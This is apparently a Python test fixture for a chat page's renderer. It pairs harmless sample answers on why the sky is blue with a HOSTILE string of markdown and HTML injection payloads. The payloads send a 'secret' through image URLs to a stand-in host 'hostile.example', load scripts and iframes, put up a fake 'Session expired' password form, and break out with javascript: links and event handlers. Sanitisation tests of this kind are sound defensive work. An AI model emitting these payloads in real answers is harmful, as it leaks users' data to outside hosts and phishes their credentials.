# ruff: noqa: E501
"""Answers for the page's tests: what models say in good days, and what a hostile one would."""

GOOD = r"""The sky is blue because of **Rayleigh scattering**: air scatters short waves more than long ones.

1. Sunlight holds all colours.
2. The scattered share grows as $1/\lambda^4$, so blue light is scattered about ten times as much as red.

$$
I \propto \frac{1 + \cos^2\theta}{\lambda^4}
$$

At sunset the way through the air is longer, so little blue is left. A lamp for $5 to $10 shows it in a glass of milky water.
"""

OTHER = """### In short

Small particles scatter blue light *more* than red light.

| Colour | Wavelength | Scattered |
|:-------|-----------:|:----------|
| Violet | 400 nm | most |
| Blue | 470 nm | much |
| Red | 680 nm | little |

- [x] Look up at noon
- [ ] Look up at dusk

```python
def scattered(wavelength_nm: float) -> float:
    \"\"\"Share of the light, beside that of red.\"\"\"
    return (680 / wavelength_nm) ** 4


print(f"{scattered(470):.1f} times as much")
```
"""

OUTSIDE = "hostile.example"
HOSTILE = f"""
![pixel](http://{OUTSIDE}:PORT/a.png?q=secret)
![ref][img]
<img src="http://{OUTSIDE}:PORT/b.png">
<img srcset="http://{OUTSIDE}:PORT/c.png 2x">
<picture><source srcset="http://{OUTSIDE}:PORT/d.png"><img></picture>
<video poster="http://{OUTSIDE}:PORT/e.png" src="http://{OUTSIDE}:PORT/e.mp4" autoplay></video>
<audio src="http://{OUTSIDE}:PORT/f.mp3" autoplay></audio>
<div style="background:url(http://{OUTSIDE}:PORT/g.png)">styled</div>
<style>body {{ background: url(http://{OUTSIDE}:PORT/h.png) }}</style>
<link rel="stylesheet" href="http://{OUTSIDE}:PORT/i.css"><link rel="prefetch" href="http://{OUTSIDE}:PORT/i2">
<iframe src="http://{OUTSIDE}:PORT/j.html"></iframe><object data="http://{OUTSIDE}:PORT/k"></object>
<svg><image href="http://{OUTSIDE}:PORT/l.png"/><use href="http://{OUTSIDE}:PORT/l.svg#x"/></svg>
<math><mtext><img src="http://{OUTSIDE}:PORT/m.png"></mtext></math>
<div style="position:fixed;inset:0;z-index:9999;background:red">Session expired. Log in again
<form action="http://{OUTSIDE}:PORT/login"><input name="password"><button>Log in</button></form></div>
<script>fetch("http://{OUTSIDE}:PORT/n")</script>
<meta http-equiv="refresh" content="0;url=http://{OUTSIDE}:PORT/o">
[click](javascript:fetch('http://{OUTSIDE}:PORT/p')) [data](data:text/html,hi) [same](/ui/events)
$\\raisebox{{4000px}}{{x}} \\hspace{{-5000px}} y \\style{{position:fixed}}{{z}} \\href{{javascript:alert(1)}}{{w}}$

\\[ \\includegraphics{{http://{OUTSIDE}:PORT/q.png}} \\]

```html" onmouseover="alert(1)
</code></pre><img src="http://{OUTSIDE}:PORT/r.png">
```

[img]: http://{OUTSIDE}:PORT/s.png "title"
"""
